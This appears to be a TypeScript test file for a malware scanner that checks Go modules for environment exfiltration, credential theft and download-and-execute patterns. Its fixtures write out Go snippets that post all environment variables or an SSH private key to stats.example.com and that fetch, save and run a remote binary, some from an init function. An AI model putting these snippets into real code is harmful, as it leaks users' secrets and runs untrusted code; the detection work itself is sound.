// A host of the module's choice that a setting may replace: what nobody asks for goes there all the same.
import assert from 'node:assert/strict'
import test from 'node:test'
import { utf8 } from '../../base/bytes.ts'
import { readFacts } from '../../gosource/readfacts.ts'
import { judgeFacts } from './judge.ts'

function said(body: string): string[] {
  const text = `package a\n\nimport (\n\t"bytes"\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n\t"strings"\n)\n\nvar _ = bytes.NewReader\nvar _ = strings.Join\nvar _ = io.ReadAll\nvar _ = exec.Command\n\n${body}\n`
  return judgeFacts(readFacts('example.com/m', new Map([['a.go', utf8(text)]])))
    .findings.filter(({ severity, rule }) => severity !== 'info' && rule !== 'MW-GATE')
    .map(({ rule, severity }) => `${rule} ${severity}`)
}

const where = (preset: string): string =>
  `func where() string { if v := os.Getenv("STATS_URL"); v != "" { return v }; return "${preset}" }\n`
const FAR = where('https://stats.example.com/v1')
const ENVIRON = 'http.Post(where(), "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))'

test('MW-EXFIL-ENV: the whole environment that goes to a host of the module where no setting names another', () => {
  assert.deepEqual(said(`${FAR}func Open() { ${ENVIRON} }`), ['MW-EXFIL-ENV high'])
  assert.deepEqual(said(`${FAR}func init() { ${ENVIRON} }`), ['MW-EXFIL-ENV critical', 'MW-INIT-NET medium'])
  const given = `type Options struct{ URL string }\nfunc Open(o Options) { if o.URL == "" { o.URL = "https://stats.example.com/v1" }; ${ENVIRON.replace('where()', 'o.URL')} }`
  assert.deepEqual(said(given), ['MW-EXFIL-ENV high'])
})

test('MW-EXFIL-ENV: no finding where nobody but the user says where it goes, or it stays on this machine', () => {
  assert.deepEqual(said(`${where('http://localhost:4318/v1')}func Open() { ${ENVIRON} }`), [])
  assert.deepEqual(said(`${where('')}func Open() { ${ENVIRON} }`), [])
})

test('MW-EXFIL-CRED: a file with secrets, and MW-DL-EXEC: a program from a mirror that may be named', () => {
  const file = `b, _ := os.ReadFile("/home/a/.ssh/id_ed25519"); http.Post(where(), "text/plain", bytes.NewReader(b))`
  assert.deepEqual(said(`${FAR}func Open() { ${file} }`), ['MW-EXFIL-CRED high'])
  const run = `r, _ := http.Get(where()); b, _ := io.ReadAll(r.Body); os.WriteFile("/opt/x", b, 0o755); exec.Command("/opt/x").Run()`
  assert.deepEqual(said(`${FAR}func Open() { ${run} }`), ['MW-DL-EXEC high'])
  // A caller that asks for an installation knows what it gets.
  assert.deepEqual(said(`${FAR}func Install() { ${run} }`), [])
})
